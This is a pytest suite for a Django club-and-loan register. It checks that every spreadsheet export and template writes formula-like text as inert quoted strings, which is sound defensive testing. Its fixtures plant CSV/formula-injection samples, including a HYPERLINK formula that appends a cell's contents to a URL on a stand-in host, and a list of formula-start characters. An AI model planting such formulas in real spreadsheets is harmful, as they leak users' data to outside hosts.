"""Issue 15: one formula guard for every spreadsheet we write. Text that starts like a formula, planted
in the database past every check (queryset.update), comes back from every writer as text: in xlsx a
string cell with Excel's quote prefix (it stays text when someone edits the cell), never a formula;
in csv behind an apostrophe. The writers: the register exports (4 kinds × xlsx, csv), the admin's
exports, the report xlsx, the error workbook, the templates."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
import tablib
from django.urls import reverse

from clubs.models import Club
from funds.models import EntryKind, Fund, FundEntry, FundKind, Loan, Purpose, RepaymentPlan
from members.models import Member
from places.models import Commune, Province
from sheets import resources
from sheets.engine import run_import
from sheets.workbooks import error_workbook_bytes, template_bytes
from tests.conftest import make_member
from tests.sheets.builders import write_csv

pytestmark = pytest.mark.django_db
D = datetime.date

HOSTILE = ('=HYPERLINK("http://x/?"&A1,"Bấm")', "+1", "@SUM(A1)", "-2+3")
SIGNS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def planted(club, other_club, tan_uyen, than_uyen):
    """The four hostile texts in every free-text column the writers show, past every check."""
    fund = Fund.objects.get(club=club, kind=FundKind.INCOME)
    for index, text in enumerate(HOSTILE):
        member = make_member(club, full_name=f"Người Số {index}", birth_year=1950 + index)
        Member.objects.filter(pk=member.pk).update(full_name=text, village=HOSTILE[index - 1])
        # objects.create() runs no validator: as a row written before the check, or past it.
        FundEntry.objects.create(fund=fund, entry_date=D(2025, 1, 2), kind=EntryKind.CONTRIBUTION,
                                 amount=1_000_000, direction=1, note=text)  # fmt: skip
        Loan.objects.create(fund=fund, member=member, disbursed_on=D(2025, 6, 1), principal=1_000_000,
                            purpose=Purpose.TRADE, term_months=6, plan=RepaymentPlan.AT_END)  # fmt: skip
    Club.objects.filter(pk=club.pk).update(name=HOSTILE[0], villages=HOSTILE[1], decision_number=HOSTILE[3])
    Club.objects.filter(pk=other_club.pk).update(name=HOSTILE[1])
    Commune.objects.filter(pk=tan_uyen.pk).update(name=HOSTILE[2])
    Commune.objects.filter(pk=than_uyen.pk).update(name=HOSTILE[3])
    return set(HOSTILE)


def _xlsx_formula_like(content: bytes) -> set[str]:
    """The formula-like texts of every sheet, after checking that each is a quoted string, none a formula."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(SIGNS):
                    assert cell.data_type in ("s", "inlineStr"), (sheet.title, cell.coordinate, cell.data_type)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    found.add(cell.value)
    return found


def _csv_guarded(content: bytes) -> set[str]:
    """The apostrophe-guarded texts of a csv, after checking that no cell starts like a formula."""
    values = [value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for value in row]
    assert not [value for value in values if value.startswith(SIGNS)]
    return {value[1:] for value in values if value.startswith("'")}


def _download(client, url, **params) -> bytes:
    response = client.get(url, params)
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("kind", ["clubs", "members", "loans", "ledger"])
def test_every_register_export_writes_formula_like_text_as_text(client_for, admin_user, planted, kind):
    client = client_for(admin_user)
    assert _xlsx_formula_like(_download(client, f"/sheets/export/{kind}/")) >= planted
    assert _csv_guarded(_download(client, f"/sheets/export/{kind}/", format="csv")) >= planted


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "resource",
    [resources.ClubResource, resources.MemberResource, resources.LoanResource, resources.FundEntryResource],
    ids=lambda r: r.__name__,
)
def test_the_admins_exports_write_formula_like_text_as_text(admin_user, planted, resource, fmt):
    dataset: tablib.Dataset = resource(user=admin_user).export()
    content = dataset.export(fmt)
    if fmt == "csv":
        assert _csv_guarded(content.encode("utf-8")) >= planted
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        values = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.value for cell in values if cell.data_type == "f"]
        assert not [cell.value for cell in values if isinstance(cell.value, str) and cell.value.startswith(SIGNS)]
        assert {cell.value[1:] for cell in values if str(cell.value).startswith("'")} >= planted


def test_the_report_xlsx_writes_formula_like_names_as_text(client_for, lai_chau_officer, planted):
    response = client_for(lai_chau_officer).get(reverse("reports:province-file", args=[12, "xlsx"]))
    assert response.status_code == 200
    found = _xlsx_formula_like(response.content)
    assert found >= {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]}  # club and commune names


def test_the_error_workbook_writes_the_sheets_formula_like_cells_as_text(club, tmp_path):
    rows = [["Họ và tên", "Năm sinh", "Giới tính", "Thôn/Tổ dân phố"]]
    rows += [[text, 1950, "Nữ", HOSTILE[index - 1]] for index, text in enumerate(HOSTILE)]
    path = write_csv(tmp_path / "ds.csv", rows)
    report = run_import("members", path, club=club)
    assert len({issue.row for issue in report.errors}) == len(HOSTILE)  # each row refused at the preview
    assert _xlsx_formula_like(error_workbook_bytes("members", path, report.errors)) == set(HOSTILE)


@pytest.mark.parametrize("kind", ["clubs", "members", "loans", "contributions"])
def test_the_templates_write_names_from_the_database_as_text(kind):
    for province, text in zip(Province.objects.order_by("code"), HOSTILE, strict=False):
        Province.objects.filter(pk=province.pk).update(name=text)
    found = _xlsx_formula_like(template_bytes(kind))
    if kind == "clubs":  # the province list of its drop-down
        assert found == set(HOSTILE[: Province.objects.count()]) and len(found) >= 2
    else:
        assert found == set()
